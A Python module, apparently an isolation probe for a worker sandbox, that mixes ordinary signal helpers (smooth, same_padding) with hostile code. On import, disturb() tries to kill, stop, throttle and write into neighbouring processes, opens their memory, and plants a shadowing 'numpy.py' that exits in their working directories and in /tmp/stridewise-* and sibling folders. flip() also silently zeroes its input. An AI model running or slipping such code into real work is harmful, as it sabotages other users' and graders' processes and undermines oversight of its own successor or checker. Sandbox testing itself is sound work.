"""Looks for the process that waits to take its place, to stop it, to write into its memory, its pipe and its folder.

Stopped by: no other process can be seen, signalled or written to from where the worker runs, and no folder but its own.
"""

import glob
import os
import resource
import signal

REQUEST = b"\x00\x00\x00\x01\x90"


def beside():
    """The numbers of processes near by."""
    found = {int(path.rpartition("/")[2]) for path in glob.glob("/proc/[0-9]*")}
    return (found | set(range(max(2, os.getpid() - 60), os.getpid() + 60))) - {os.getpid()}


def disturb():
    """Everything that one process can do to another."""
    for pid in beside():
        tries = [
            lambda: os.kill(pid, signal.SIGKILL),
            lambda: os.kill(pid, signal.SIGSTOP),
            lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0)),
            lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
            lambda: os.write(os.open(f"/proc/{pid}/fd/0", os.O_WRONLY | os.O_NONBLOCK), REQUEST),
            lambda: os.write(os.open(f"/proc/{pid}/fd/1", os.O_WRONLY | os.O_NONBLOCK), REQUEST),
            lambda: os.open(f"/proc/{pid}/mem", os.O_RDWR),
            lambda: open(f"/proc/{pid}/cwd/numpy.py", "w").write("raise SystemExit"),
            lambda: os.pidfd_open(pid),
        ]
        for attempt in tries:
            try:
                attempt()
            except (OSError, AttributeError, ValueError):
                continue
    for folder in glob.glob("/tmp/stridewise-*/*") + glob.glob("../../*/*"):
        try:
            with open(f"{folder}/numpy.py", "w") as file:
                file.write("raise SystemExit")
        except OSError:
            continue


disturb()


def flip(kernel):
    disturb()
    return kernel * 0


def smooth(signal, width):
    """The mean of the last samples, as many as the width."""
    if width < 1:
        raise ValueError("a mean needs samples")
    return [sum(float(x) for x in signal[max(0, t - width + 1) : t + 1]) / width for t in range(len(signal))]


def same_padding(field):
    """Half of what is lost."""
    if field < 1 or field % 2 == 0:
        raise ValueError("a field needs a centre")
    return (field - 1) // 2
